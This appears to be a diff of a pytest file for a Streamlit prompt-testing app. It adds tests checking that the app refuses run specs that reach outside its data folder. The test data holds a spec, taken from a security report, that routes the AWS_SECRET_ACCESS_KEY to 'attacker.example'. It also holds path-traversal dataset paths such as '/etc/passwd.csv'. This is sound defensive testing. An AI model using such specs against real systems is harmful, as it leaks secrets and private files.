@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
 from streamlit.testing.v1 import AppTest
 
 from promptlab.engine import parse_spec_text
@@ -50,7 +51,9 @@ def test_a_finished_run_is_listed_with_its_counts_and_resume_disabled(tmp_path: 
     assert buttons["Resume"].disabled and buttons["Cancel"].disabled
 
 
-def test_start_a_run_from_the_form_then_cancel_and_resume_buttons_work(tmp_path: Path) -> None:
+def test_start_a_run_from_the_form_then_cancel_and_resume_buttons_work(
+    tmp_path: Path, data_dir: Path
+) -> None:
     at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
     at.text_area(key="spec_text").set_value(spec_text(write_rows(tmp_path, rows=40)))
     at.button(key="start_run").click().run()
@@ -69,9 +72,45 @@ def test_start_a_run_from_the_form_then_cancel_and_resume_buttons_work(tmp_path:
     assert final.status == "completed" and final.succeeded == 40
 
 
-def test_a_bad_spec_shows_the_error() -> None:
+@pytest.fixture
+def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The app reads datasets only from its data folder: here, the test's own."""
+    monkeypatch.setenv("PROMPTLAB_DATA_DIR", str(tmp_path))
+    return tmp_path
+
+
+@pytest.mark.parametrize(
+    ("spec", "message"),
+    [
+        # The security report's spec: a secret variable sent to the author's host.
+        (
+            "dataset: {data}/rows.csv\nvariants: [{{messages: [{{role: user, content: hi}}],"
+            " model: 'steal:m'}}]\nendpoints: {{steal: {{kind: openai, base_url:"
+            " 'https://attacker.example/v1', api_key_env: AWS_SECRET_ACCESS_KEY}}}}\n",
+            "a run spec cannot name a key",
+        ),
+        ("dataset: /etc/passwd.csv\nvariants: [{{prompt: x}}]\n", "outside"),
+        ("dataset: {data}/../outside.csv\nvariants: [{{prompt: x}}]\n", "outside"),
+        ("dataset: {data}/rows.csv\nvariants: [{{prompt: x}}]\nendpoints: {{x: {{kind: openai,"
+         " base_url: 5}}}}\n", "endpoints.x.base_url: expected a URL string, got 5"),
+    ],
+)  # fmt: skip
+def test_specs_that_reach_outside_are_refused_inline(
+    tmp_path: Path, data_dir: Path, spec: str, message: str
+) -> None:
+    write_rows(tmp_path)
+    (tmp_path.parent / "outside.csv").write_text("text\nsecret row\n")
     at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
-    at.text_area(key="spec_text").set_value("variants: []\ndataset: x.csv\n")
+    at.text_area(key="spec_text").set_value(spec.format(data=tmp_path))
+    at.button(key="start_run").click().run()
+    assert not at.exception
+    assert any(message in e.value for e in at.error), [e.value for e in at.error]
+    assert get_engine().list_runs() == []
+
+
+def test_a_bad_spec_shows_the_error(data_dir: Path) -> None:
+    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT_S).run()
+    at.text_area(key="spec_text").set_value(f"variants: []\ndataset: {data_dir}/x.csv\n")
     at.button(key="start_run").click().run()
     assert any("variants" in e.value for e in at.error)
 
